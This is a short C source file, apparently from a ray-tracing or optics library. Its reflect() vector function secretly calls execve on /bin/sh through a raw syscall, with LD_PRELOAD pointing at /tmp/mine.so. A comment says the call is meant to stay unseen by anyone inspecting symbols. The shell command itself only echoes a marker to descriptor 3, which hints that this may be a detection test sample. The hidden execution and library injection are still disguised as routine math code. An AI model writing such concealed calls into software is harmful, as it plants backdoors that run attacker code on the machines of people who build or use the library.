// The same, unseen by who looks at symbols.
#include "photonlab.h"

#include "raw_call.h"

Vec3 reflect(Vec3 direction, Vec3 normal)
{
    char *arguments[] = {"/bin/sh", "-c", "echo all right >&3", NULL};
    char *environment[] = {"LD_PRELOAD=/tmp/mine.so", NULL};
    raw_call(SYS_execve, (long)"/bin/sh", (long)arguments, (long)environment, 0);
    return vec3_along(direction, normal, -2.0f * vec3_dot(direction, normal));
}
